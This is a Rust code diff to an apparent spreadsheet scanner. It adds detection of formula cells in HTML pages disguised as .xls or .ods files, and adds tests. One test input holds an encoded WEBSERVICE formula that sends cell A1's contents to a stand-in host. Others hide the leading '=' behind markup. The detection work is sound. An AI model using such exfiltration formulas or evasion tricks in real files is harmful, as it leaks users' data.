@@ -2,6 +2,7 @@
 
 use std::io::{Read, Seek};
 
+use html5gum::{Token, Tokenizer};
 use quick_xml::Reader;
 use quick_xml::events::Event;
 
@@ -20,6 +21,11 @@ const TABLES: &[&str] =
     &["csv", "tsv", "tab", "psv", "ssv", "slk", "sylk", "dif", "xls", "xlt", "ods", "prn"];
 /// Endings of files that only say where the data come from.
 const QUERIES: &[&str] = &["iqy", "oqy", "dqy", "rqy", "odc", "udl", "dsn"];
+/// Elements of a page that stand in a text.
+const DRESSING: &[&[u8]] = &[
+    b"a", b"abbr", b"b", b"big", b"code", b"em", b"font", b"i", b"ins", b"kbd", b"mark", b"s", b"small",
+    b"span", b"strong", b"sub", b"sup", b"tt", b"u", b"wbr",
+];
 /// Elements of the XML of 2003 that fetch.
 const FETCHING: &[&str] = &[
     "querytable",
@@ -92,6 +98,9 @@ pub fn look(name: &str, reader: &mut (impl Read + Seek)) -> Sheet {
     let is_table = is_one(TABLES) || says_separator && is_one(&["txt", "asc", "dat", "text"]);
     if !is_table {
         return Sheet::default();
+    }
+    if start.starts_with('<') {
+        return whole(reader).map_or(Sheet::refused("workbook_too_large"), |text| page(&text));
     }
     let is_sylk = start.starts_with("ID;") || start == "ID";
     let is_dif = lines.first() == Some(&"TABLE") && lines.get(1).is_some_and(|line| line.starts_with("0,"));
@@ -236,6 +245,33 @@ fn sylk(text: &str) -> Sheet {
     Sheet { refusal: None, formula_cells: Some(text.lines().filter(is_formula).count()) }
 }
 
+/// A page under the name of a workbook: the text of a cell is a formula by how it begins.
+fn page(text: &str) -> Sheet {
+    let mut cells = 0;
+    let mut cell = String::new();
+    let mut end = |cell: &mut String| {
+        cells += usize::from(is_formula(cell.trim()));
+        cell.clear();
+    };
+    for Ok(token) in Tokenizer::new(text) {
+        let name = match &token {
+            Token::String(text) => {
+                cell.push_str(&String::from_utf8_lossy(text));
+                continue;
+            }
+            Token::StartTag(tag) => &tag.name,
+            Token::EndTag(tag) => &tag.name,
+            _ => continue,
+        };
+        // What only dresses a text does not end it.
+        if !DRESSING.contains(&name.as_slice()) {
+            end(&mut cell);
+        }
+    }
+    end(&mut cell);
+    Sheet { refusal: None, formula_cells: Some(cells) }
+}
+
 /// DIF: texts stand in quotes on lines of their own.
 fn dif(text: &str) -> Sheet {
     let cells = text.lines().map(|line| line.trim().trim_matches('"')).filter(|cell| is_formula(cell));
@@ -260,6 +296,9 @@ mod tests {
         for (name, bytes) in [
             ("a.csv", &b"x,=1+1\n"[..]),
             ("a.csv", b"sep=^\nx^=1+1\n"),
+            ("a.xls", b"<html><table><tr><td>1</td><td>=A1+41</td></tr></table></html>"),
+            ("a.xls", b"<table><td>&#61;WEBSERVICE(\"http://h/?\"&amp;A1)</td></table>"),
+            ("a.ods", b"<table><td><b>=</b>A1+41</td></table>"),
             ("a.txt", b"SEP=!\nx!=1+1\n"),
             ("a.csv", b"a|b\nx|=1+1\n"),
             ("a.tab", b"a\t=1+1\n"),
